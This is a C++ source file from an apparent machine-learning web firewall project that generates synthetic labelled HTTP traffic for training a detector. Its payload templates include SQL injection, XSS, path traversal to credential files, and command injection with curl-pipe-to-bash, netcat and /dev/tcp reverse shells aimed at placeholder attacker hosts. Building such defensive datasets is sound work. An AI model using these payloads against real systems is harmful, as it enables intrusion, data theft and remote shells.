// Copyright 2026 The dlwaf Authors
// SPDX-License-Identifier: Apache-2.0

#include "dlwaf/synthetic.hpp"

#include <algorithm>
#include <string_view>

namespace dlwaf::data {
namespace {

using Words = std::vector<std::string>;

const Words kWords{"shoes",  "laptop", "garden", "coffee",   "books",   "music",   "camera", "phone",
                   "travel", "kitchen", "summer", "winter",  "blue",    "red",     "green",  "sale",
                   "new",    "best",   "cheap",  "organic",  "wireless", "vintage", "classic", "sport",
                   "kids",   "lamp",   "desk",   "guitar",   "bike",    "tent",    "jacket", "watch"};
const Words kFirst{"John", "Maria", "Ahmed", "Sara", "Li", "Olga", "Peter", "Nadia", "Carlos", "Emma",
                   "Yusuf", "Hana", "Tom", "Lucia", "Omar", "Ines"};
const Words kLast{"Smith", "Garcia", "Hassan", "Chen", "Novak", "Brown", "Rossi", "Kim", "Silva", "Weber",
                  "Ali", "Costa", "Dubois", "Sato"};
const Words kParams{"id", "page", "q", "sort", "category", "lang", "ref", "item", "name", "city", "qty", "tag"};
const Words kTables{"users", "accounts", "orders", "admin", "customers", "products", "members"};
const Words kColumns{"password", "username", "email", "pass", "card_number", "login", "secret"};
const Words kHosts{"evil.example", "203.0.113.7", "attacker.test", "198.51.100.23", "bad.example.net"};
const Words kAgents{"Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0"};

struct Gen {
  Rng& rng;

  const std::string& pick(const Words& w) { return rng.pick(w); }
  int num(int lo, int hi) { return lo + static_cast<int>(rng.below(static_cast<std::size_t>(hi - lo + 1))); }
  bool chance(double p) { return rng.uniform() < p; }

  std::string hex(int len) {
    static constexpr char kHex[] = "0123456789abcdef";
    std::string s;
    for (int i = 0; i < len; ++i) s += kHex[rng.below(16)];
    return s;
  }

  std::string words(int lo, int hi, char sep) {
    std::string s;
    int n = num(lo, hi);
    for (int i = 0; i < n; ++i) {
      if (i) s += sep;
      s += pick(kWords);
    }
    return s;
  }

  std::string benign_value() {
    switch (num(0, 4)) {
      case 0: return std::to_string(num(1, 99999));
      case 1: return words(1, 3, '+');
      case 2: return pick(kFirst);
      case 3: return pick(kWords) + std::to_string(num(1, 999));
      default: return std::to_string(num(1, 500));
    }
  }

  std::string path() {
    switch (num(0, 9)) {
      case 0: return "/";
      case 1: return "/index.html";
      case 2: return "/products/" + std::to_string(num(1, 5000));
      case 3: return "/search";
      case 4: return "/cart";
      case 5: return "/account/profile";
      case 6: return "/blog/" + pick(kWords) + "-" + pick(kWords);
      case 7: return "/api/v1/items";
      case 8: return "/static/css/site.css";
      default: return "/category/" + pick(kWords);
    }
  }

  std::string form_path() {
    static const Words kForms{"/login", "/register", "/contact", "/checkout", "/subscribe", "/feedback"};
    return pick(kForms);
  }

  static std::string percent_encode(std::string_view s, bool all_special) {
    static constexpr char kHex[] = "0123456789ABCDEF";
    std::string out;
    for (char c : s) {
      const auto u = static_cast<unsigned char>(c);
      const bool alnum = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
      const bool keep = alnum || (!all_special && (c == '-' || c == '_' || c == '.' || c == '/'));
      if (keep) {
        out += c;
      } else {
        out += '%';
        out += kHex[u >> 4];
        out += kHex[u & 0xF];
      }
    }
    return out;
  }

  // Encodes a parameter value the way clients and attack tools commonly do.
  std::string encode_value(const std::string& value) {
    const double r = rng.uniform();
    if (r < 0.35) return percent_encode(value, false);
    if (r < 0.45) return percent_encode(percent_encode(value, false), false);
    if (r < 0.70) {
      std::string s = value;
      std::replace(s.begin(), s.end(), ' ', '+');
      std::string out;
      for (char c : s) {
        if (c == '&' || c == '#' || c == '=' || c == '%' || c == '\n') {
          out += percent_encode(std::string(1, c), true);
        } else {
          out += c;
        }
      }
      return out;
    }
    std::string out;
    for (char c : value) {
      if (c == ' ' || c == '&' || c == '#' || c == '=' || c == '%' || c == '\n' || c == '+') {
        out += percent_encode(std::string(1, c), true);
      } else {
        out += c;
      }
    }
    return out;
  }

  std::string headers() {
    std::string h = "Host: shop.example.com\r\n";
    h += "User-Agent: " + pick(kAgents) + "\r\n";
    if (chance(0.5)) h += "Cookie: session=" + hex(16) + "\r\n";
    if (chance(0.3)) h += "Referer: http://shop.example.com" + path() + "\r\n";
    if (chance(0.4)) h += "Accept: text/html\r\n";
    return h;
  }

  // Builds a request carrying `pairs`; values already encoded.
  std::string request(const std::vector<std::pair<std::string, std::string>>& pairs, bool post) {
    std::string params;
    for (const auto& [k, v] : pairs) {
      if (!params.empty()) params += '&';
      params += k + "=" + v;
    }
    if (post) {
      std::string h = headers();
      h += "Content-Type: application/x-www-form-urlencoded\r\n";
      h += "Content-Length: " + std::to_string(params.size()) + "\r\n";
      return "POST " + form_path() + " HTTP/1.1\r\n" + h + "\r\n" + params;
    }
    std::string target = path();
    if (!params.empty()) target += "?" + params;
    return "GET " + target + " HTTP/1.1\r\n" + headers() + "\r\n";
  }

  std::string normal() {
    const bool post = chance(0.3);
    std::vector<std::pair<std::string, std::string>> pairs;
    if (post) {
      switch (num(0, 2)) {
        case 0:
          pairs = {{"user", pick(kFirst) + std::to_string(num(1, 99))}, {"pass", hex(10)}};
          break;
        case 1:
          pairs = {{"first", pick(kFirst)}, {"last", pick(kLast)}, {"city", pick(kWords)}};
          break;
        default:
          pairs = {{"email", pick(kFirst) + "%40example.com"}, {"topic", words(1, 2, '+')}};
      }
    } else {
      int n = num(0, 3);
      for (int i = 0; i < n; ++i) pairs.push_back({pick(kParams), benign_value()});
      if (chance(0.15)) pairs = {{"first", pick(kFirst)}, {"last", pick(kLast)}};
    }
    return request(pairs, post);
  }

  // Harmless but lexically odd input: typos, punctuation, emoticons.
  std::string benign_anomaly() {
    std::string value;
    switch (num(0, 7)) {
      case 0:
      case 7: {  // stray '&' and friends inside a name
        std::string name = pick(kFirst);
        static const std::string kStray = "&&&&&&?!";
        int inserts = num(3, 6);
        for (int i = 0; i < inserts; ++i) {
          name.insert(rng.below(name.size() + 1), 1, kStray[rng.below(kStray.size())]);
        }
        value = name;
        break;
      }
      case 1: {
        static const Words kIrish{"O'Brien", "O'Neil", "D'Angelo", "O'Hara", "D'Souza"};
        value = pick(kIrish) + " (" + pick(kWords) + ")!!";
        break;
      }
      case 2: {
        static const Words kJoy{":-)", ";)", ":D", "<3", "^_^", "!!!", "???", "(:"};
        value = pick(kWords) + " " + pick(kJoy) + " " + pick(kJoy) + " " + pick(kJoy);
        break;
      }
      case 3:
        value = "(" + std::to_string(num(200, 999)) + ") " + std::to_string(num(100, 999)) + "-" +
                std::to_string(num(1000, 9999)) + " #" + std::to_string(num(1, 99));
        break;
      case 4: {
        static const Words kBrands{"C++ & C#", "AT&T", "R&D", "Q&A", "B&B", "M&M's"};
        value = pick(kBrands) + " \"" + pick(kWords) + "\" {" + pick(kWords) + "}";
        break;
      }
      case 5:
        value = std::to_string(num(10, 90)) + "% off!!! #" + pick(kWords) + " ;-)";
        break;
      default: {
        std::string s = pick(kLast);
        value = s + "!!" + "??" + " & " + pick(kLast) + " ...";
        break;
      }
    }
    const bool post = chance(0.4);
    std::vector<std::pair<std::string, std::string>> pairs{{"first", pick(kFirst)}, {"last", encode_value(value)}};
    if (chance(0.5)) std::swap(pairs[0].second, pairs[1].second);
    if (chance(0.3)) pairs[0].first = "comment";
    return request(pairs, post);
  }

  std::string sqli_payload() {
    const std::string n = std::to_string(num(1, 999));
    const std::string t = pick(kTables), c = pick(kColumns), w = pick(kWords);
    std::string p;
    switch (num(0, 15)) {
      case 0: p = n + "' OR '1'='1"; break;
      case 1: p = n + "' OR 1=1--"; break;
      case 2: p = "' OR ''='"; break;
      case 3: p = "admin'--"; break;
      case 4: p = n + " UNION SELECT " + c + "," + pick(kColumns) + " FROM " + t + "--"; break;
      case 5: p = n + "' UNION ALL SELECT NULL," + c + ",NULL FROM " + t + "--"; break;
      case 6: p = n + "; DROP TABLE " + t + "--"; break;
      case 7: p = n + "' AND SLEEP(" + std::to_string(num(2, 10)) + ")--"; break;
      case 8: p = n + " AND 1=CONVERT(int,(SELECT @@version))"; break;
      case 9: p = n + "' AND (SELECT COUNT(*) FROM " + t + ")>0--"; break;
      case 10: p = "' OR 'x'='x"; break;
      case 11: p = n + " OR BENCHMARK(1000000,MD5(" + n + "))"; break;
      case 12: p = n + "' ORDER BY " + std::to_string(num(1, 12)) + "--"; break;
      case 13: p = n + "'; INSERT INTO " + t + " VALUES ('" + w + "','" + w + "')--"; break;
      case 14: p = "'; UPDATE " + t + " SET " + c + "='" + w + "' WHERE 1=1--"; break;
      default: p = n + "' AND '" + w + "'='" + w; break;
    }
    return recase(p);
  }

  std::string xss_payload() {
    const std::string n = std::to_string(num(1, 999));
    const std::string w = pick(kWords);
    switch (num(0, 11)) {
      case 0: return "<script>alert(" + n + ")</script>";
      case 1: return "<script>alert(document.cookie)</script>";
      case 2: return "<img src=x onerror=alert('" + w + "')>";
      case 3: return "<svg onload=alert(" + n + ")>";
      case 4: return "\"><script>alert(String.fromCharCode(88,83,83))</script>";
      case 5: return "javascript:alert('" + w + "')";
      case 6: return "<body onload=alert('" + w + "')>";
      case 7: return "<iframe src=\"javascript:alert(" + n + ")\"></iframe>";
      case 8: return "<a href=\"javascript:eval('" + w + "')\">" + w + "</a>";
      case 9: return "'><img src=1 onerror=prompt(" + n + ")>";
      case 10: return "<div onmouseover=\"alert('" + w + "')\">" + w + "</div>";
      default: return "<script src=http://" + pick(kHosts) + "/" + w + ".js></script>";
    }
  }

  std::string traversal_payload() {
    static const Words kTargets{"etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini",
                                "proc/self/environ", "var/log/apache2/access.log", "WEB-INF/web.xml"};
    static const Words kSteps{"../", "..\\", "..%2f", "%2e%2e/", "....//", "..%5c"};
    const std::string& step = pick(kSteps);
    std::string p;
    if (chance(0.2)) p = "/var/www/images/";
    int depth = num(2, 8);
    for (int i = 0; i < depth; ++i) p += step;
    p += pick(kTargets);
    if (chance(0.2)) p += "%00.png";
    return p;
  }

  std::string command_payload() {
    const std::string host = pick(kHosts);
    const std::string w = pick(kWords);
    static const Words kSeps{"; ", "| ", "&& ", "|| ", "\n"};
    const Words cmds{"id", "whoami", "ls -la", "uname -a", "cat /etc/passwd", "wget http://" + host + "/" + w + ".sh",
                     "curl http://" + host + "/x | bash", "nc -e /bin/sh " + host + " 4444",
                     "ping -c 4 " + host, "rm -rf /tmp/" + w, "bash -i >& /dev/tcp/" + host + "/4444 0>&1",
                     "echo " + w + " > /tmp/" + w, "sleep " + std::to_string(num(2, 9)), "cmd.exe /c dir"};
    static const Words kPrefix{"127.0.0.1", "8.8.8.8", "report.txt", "", "localhost"};
    const std::string cmd = pick(cmds);
    switch (num(0, 3)) {
      case 0: return pick(kPrefix) + "`" + cmd + "`";
      case 1: return pick(kPrefix) + "$(" + cmd + ")";
      default: return pick(kPrefix) + pick(kSeps) + cmd;
    }
  }

  std::string recase(std::string s) {
    const int mode = num(0, 2);
    for (char& ch : s) {
      if (mode == 1 && ch >= 'A' && ch <= 'Z') ch = static_cast<char>(ch - 'A' + 'a');
      if (mode == 2 && ch >= 'A' && ch <= 'Z' && chance(0.5)) ch = static_cast<char>(ch - 'A' + 'a');
    }
    return s;
  }

  std::string attack(AttackClass cls) {
    std::string value;
    std::string param;
    switch (cls) {
      case AttackClass::sqli: value = sqli_payload(); param = pick(kParams); break;
      case AttackClass::xss: value = xss_payload(); param = chance(0.5) ? "q" : pick(kParams); break;
      case AttackClass::path_traversal: {
        static const Words kFileParams{"file", "page", "path", "doc", "template", "img"};
        value = traversal_payload();
        param = pick(kFileParams);
        break;
      }
      default: {
        static const Words kCmdParams{"host", "ip", "cmd", "file", "target", "name"};
        value = command_payload();
        param = pick(kCmdParams);
        break;
      }
    }
    std::vector<std::pair<std::string, std::string>> pairs;
    if (chance(0.5)) pairs.push_back({pick(kParams), benign_value()});
    pairs.push_back({param, encode_value(value)});
    return request(pairs, chance(0.3));
  }
};

bool contains_any(std::string_view text, std::initializer_list<std::string_view> needles) {
  for (auto n : needles) {
    if (text.find(n) != std::string_view::npos) return true;
  }
  return false;
}

}  // namespace

std::vector<LabeledRecord> generate_synthetic_corpus(std::size_t size, std::uint64_t seed,
                                                     const SyntheticOptions& options) {
  Rng rng(seed);
  Gen gen{rng};
  std::vector<LabeledRecord> records;
  records.reserve(size);
  for (std::size_t i = 0; i < size; ++i) {
    const AttackClass cls = kAttackClasses[i % kAttackClasses.size()];
    LabeledRecord r;
    r.source = "synthetic";
    r.attack_class = cls;
    std::string raw;
    if (cls == AttackClass::valid) {
      if (rng.uniform() < options.normal_share_of_valid) {
        raw = gen.normal();
        r.l1_label = 0;
      } else {
        raw = gen.benign_anomaly();
        r.l1_label = 1;
      }
    } else {
      raw = gen.attack(cls);
      r.l1_label = 1;
    }
    r.raw_request = http::parse_raw_request(raw);
    r.payload = std::move(raw);
    records.push_back(std::move(r));
  }
  shuffle(records, rng);
  return records;
}

std::vector<std::string> synthetic_self_check(std::span<const LabeledRecord> records) {
  std::vector<std::string> failures;
  for (std::size_t i = 0; i < records.size(); ++i) {
    const auto& r = records[i];
    if (!r.attack_class || *r.attack_class == AttackClass::valid) continue;
    std::string text = inspection_text(r);
    std::transform(text.begin(), text.end(), text.begin(),
                   [](char c) { return (c >= 'A' && c <= 'Z') ? static_cast<char>(c - 'A' + 'a') : c; });
    bool ok = false;
    switch (*r.attack_class) {
      case AttackClass::sqli:
        ok = contains_any(text, {"'", "union", "select", "--", " or ", "sleep", "drop", "benchmark", "order by"});
        break;
      case AttackClass::xss:
        ok = contains_any(text, {"<script", "javascript:", "onerror=", "onload=", "onmouseover=", "<img", "<svg"});
        break;
      case AttackClass::path_traversal:
        ok = contains_any(text, {"../", "..\\", "....//"});
        break;
      case AttackClass::command_injection:
        ok = contains_any(text, {";", "|", "`", "$(", "&&", "\n"});
        break;
      default:
        break;
    }
    if (!ok) {
      failures.push_back("record " + std::to_string(i) + " (" + std::string(to_string(*r.attack_class)) +
                         ") shows no indicator: " + text.substr(0, 120));
    }
  }
  return failures;
}

}  // namespace dlwaf::data
